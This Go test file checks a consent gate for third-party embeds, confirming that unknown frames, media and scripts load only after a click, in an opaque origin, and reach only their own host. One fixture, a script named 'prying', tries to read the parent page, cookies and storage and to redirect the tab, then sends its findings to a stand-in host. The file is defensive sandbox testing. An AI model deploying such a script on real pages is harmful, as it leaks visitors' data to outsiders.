package gate

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/gatefold/gatefold/internal/browser"
	"github.com/gatefold/gatefold/provider"
)

// openPieces is open for pieces that have no address to be recognised by.
func openPieces(t *testing.T, v browser.View, matches ...provider.Match) *opened {
	t.Helper()
	b := browser.Shared(t)
	o := &opened{press: newPress(t, "en"), world: b}
	for _, m := range matches {
		o.pieces = append(o.pieces, Piece{Match: m, Level: 2})
	}
	o.gates.Number(o.locale(), o.pieces)
	b.Serve(pressHost, o.press)
	o.Page = b.Page(t, v)
	b.Forget()
	return o
}

// picture answers with a drawing, and sound and film with what is none.
func answer(mediaType, body string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", mediaType)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, body)
	})
}

// An unknown piece contacts its one host, when the button was pressed and not
// before, and shows what it is.
func TestUnknownPieces(t *testing.T) {
	const host = "things.example.com"
	for name, piece := range map[string]struct {
		provider.Stranger
		answer http.Handler
	}{
		"frame":   {provider.Stranger{Kind: provider.StrangeFrame, Address: "https://" + host + "/a?b=c", Width: 640, Height: 360}, stage("")},
		"picture": {provider.Stranger{Kind: provider.StrangePicture, Address: "https://" + host + "/a.svg", Alt: "A gull"}, answer("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"/>`)},
		"video":   {provider.Stranger{Kind: provider.StrangeVideo, Address: "https://" + host + "/a.mp4"}, answer("video/mp4", "")},
		"audio":   {provider.Stranger{Kind: provider.StrangeAudio, Address: "https://" + host + "/a.mp3"}, answer("audio/mpeg", "")},
	} {
		t.Run(name, func(t *testing.T) {
			scripts(t, func(t *testing.T, v browser.View) {
				m := stranger(t, piece.Stranger)
				o := openPieces(t, v, m)
				o.world.Serve(host, piece.answer)
				o.Open("https://" + pressHost + "/")
				if text := browser.Eval[string](o.Page, `document.querySelector(".gf-say").textContent`); !strings.Contains(text, "Nothing is known here about who runs "+host) {
					t.Errorf("the notice says %s", text)
				}
				if text := browser.Eval[string](o.Page, `document.querySelector(".gf-name").textContent`); !strings.HasSuffix(text, " hosted on "+host) {
					t.Errorf("the gate is called %s", text)
				}
				o.onlyHosts(t)
				o.Click("#gf1-yes")
				o.reached(host)
				o.onlyHosts(t, host)
			})
		})
	}
}

func TestAPictureHasItsHeight(t *testing.T) {
	const host = "things.example.com"
	o := openPieces(t, browser.View{}, stranger(t, provider.Stranger{Kind: provider.StrangePicture, Address: "https://" + host + "/a.svg", Alt: "A gull"}))
	o.world.Serve(host, answer("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"/>`))
	o.Open("https://" + pressHost + "/")
	o.Click("#gf1-yes")
	o.loaded(1)
	o.WaitFor(`(f => Math.abs(f.clientHeight - f.clientWidth * .75) < 3)(document.querySelector("#gf1 iframe"))`)
	if alt := browser.Eval[string](o.Page, `frames[0].document.querySelector("img").alt`); alt != "A gull" {
		t.Errorf("the picture is described as %q", alt)
	}
	for _, found := range o.Axe(t) {
		t.Error(found)
	}
}

// prying is a script that looks for whatever it could reach, and tells a
// subdomain of its host what it found.
const prying = `(async () => {
const found = { origin: self.origin, inline: !!self.inline }
const attempt = async (name, f) => { try { found[name] = String(await f()) } catch { found[name] = 'barred' } }
await attempt('page', () => top.document.title)
await attempt('document', () => parent.document.title)
await attempt('tab', () => { top.location = 'https://elsewhere.example.com/'; return 'moved' })
await attempt('storage', () => {
const f = document.createElement('iframe')
document.body.append(f)
try { return f.contentWindow.localStorage.length } finally { f.remove() }
})
localStorage.setItem('a', 1)
await attempt('kept', () => localStorage.getItem('a') + document.cookie)
await attempt('site', () => fetch('https://press.test/').then(r => r.text()))
await attempt('elsewhere', () => fetch('https://elsewhere.example.com/'))
await attempt('picture', () => new Promise((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no, src: 'https://elsewhere.example.com/a' })))
const place = document.getElementById('poll')
place.textContent = 'A poll'
place.style.height = '777px'
fetch('https://api.polls.example.com/?' + new URLSearchParams(found))
})()`

const pollCode = `<div id="poll">The poll</div><script>self.inline = 1 // a comment
</script>
<script src="https://polls.example.com/w.js"></script>`

// checkPried reads what the script found out.
func (o *opened) checkPried(t *testing.T) {
	t.Helper()
	o.reached("api.polls.example.com")
	for _, c := range o.world.Contacts() {
		if c.Kind != "request" || c.Host != "api.polls.example.com" {
			continue
		}
		u, err := url.Parse(c.Path)
		if err != nil {
			t.Fatal(err)
		}
		for name, want := range map[string]string{
			"origin": "null", "inline": "true", "kept": "1",
			"page": "barred", "document": "barred", "storage": "barred", "site": "barred", "elsewhere": "barred", "picture": "barred",
		} {
			if got := u.Query().Get(name); got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
	}
	for _, host := range o.world.Hosts() {
		if !slices.Contains([]string{pressHost, "polls.example.com", "api.polls.example.com"}, host) {
			t.Errorf("%s was contacted: %v", host, o.world.Contacts())
		}
	}
}

func openPoll(t *testing.T, v browser.View) *opened {
	o := openPieces(t, v, stranger(t, provider.Stranger{Kind: provider.StrangeScript, Address: "https://polls.example.com/w.js", Code: pollCode}))
	o.world.Serve("polls.example.com", answer("text/javascript", prying))
	o.world.Serve("api.polls.example.com", answer("text/plain", ""))
	return o
}

// An unknown script runs where there is nothing of the site and nothing of the
// page, and reaches its own host and no other.
func TestUnknownScript(t *testing.T) {
	o := openPoll(t, browser.View{})
	o.Open("https://" + pressHost + "/")
	o.onlyHosts(t)
	o.Click("#gf1-yes")
	o.checkPried(t)
	o.WaitFor(`document.querySelector("#gf1 iframe").clientHeight == 777`)
	if got := browser.Eval[string](o.Page, `location.host`); got != pressHost {
		t.Errorf("the tab is at %s", got)
	}
}

// Nor does it run in the site's origin when somebody is led to the document
// itself.
func TestUnknownScriptOnItsOwn(t *testing.T) {
	o := openPoll(t, browser.View{})
	o.Open("https://" + pressHost + o.gates.DocumentPath(o.pieces[0].Match, "en"))
	o.checkPried(t)
}

// The script of a known provider works likewise, from what the catalogue says.
func TestScriptOfAProvider(t *testing.T) {
	o := openPieces(t, browser.View{}, recognise(t, "https://gist.github.com/6806305"))
	o.world.Serve("gist.github.com", answer("text/javascript", `document.write('<link rel="stylesheet" href="https://github.githubassets.com/a.css"><div style="height:321px">' + origin + '</div>')`))
	o.world.Serve("github.githubassets.com", answer("text/css", "div{color:red}"))
	o.Open("https://" + pressHost + "/")
	o.onlyHosts(t)
	o.Click("#gf1-yes")
	o.reached("github.githubassets.com")
	o.WaitFor(`document.querySelector("#gf1 iframe").clientHeight == 321`)
	o.onlyHosts(t, "gist.github.com", "github.githubassets.com")
}

// Every script that is believed to work runs as the catalogue says: it is loaded
// from a host that it names, in an opaque origin, and nobody else is contacted.
func TestScriptsOfAllProviders(t *testing.T) {
	for _, p := range provider.Default().All() {
		for _, example := range p.Examples {
			m, _ := provider.Default().Recognise(example)
			if m.Provider != p || m.Opaque() == "" {
				continue
			}
			t.Run(p.ID, func(t *testing.T) {
				o := openPieces(t, browser.View{}, m)
				for _, host := range m.FrameHosts() {
					o.world.Serve(strings.TrimPrefix(host, "*."), answer("text/javascript", `document.body.append(Object.assign(document.createElement('p'), { style: 'height:432px;margin:0', textContent: origin })); document.body.replaceChildren(document.body.lastChild)`))
				}
				o.Open("https://" + pressHost + "/")
				o.onlyHosts(t)
				o.Click("#gf1-yes")
				o.WaitFor(`document.querySelector("#gf1 iframe").clientHeight == 432`)
				for _, v := range o.Violations() {
					if !strings.Contains(v, "style") { // the stand-in for a style sheet is no style
						t.Errorf("violation: %s", v)
					}
				}
				for _, h := range o.world.Hosts() {
					if h != pressHost && !slices.Contains(m.FrameHosts(), h) {
						t.Errorf("%s was contacted", h)
					}
				}
			})
		}
	}
}

// A click plays a video; a choice that was remembered does not.
func TestPlaying(t *testing.T) {
	const host = "www.youtube-nocookie.com"
	o := open(t, "en", browser.View{}, video)
	o.Click("#gf1-yes")
	o.reached(host)
	path := o.gates.DocumentPath(o.pieces[0].Match, "en")
	asked := func() (paths []string) {
		for _, c := range o.world.Contacts() {
			if c.Host == host && c.Kind == "request" {
				paths = append(paths, c.Path)
			}
		}
		return paths
	}
	if got := asked(); len(got) != 1 || !strings.HasSuffix(got[0], "?autoplay=1") {
		t.Errorf("a click asks for %v", got)
	}
	o.world.Forget()
	browser.Eval[bool](o.Page, fmt.Sprintf(`document.querySelector("#gf1 iframe").replaceWith(Object.assign(document.createElement("iframe"), { src: "%s#still" })), true`, path))
	o.reached(host)
	if got := asked(); len(got) != 1 || strings.Contains(got[0], "autoplay") {
		t.Errorf("a remembered choice asks for %v", got)
	}
}
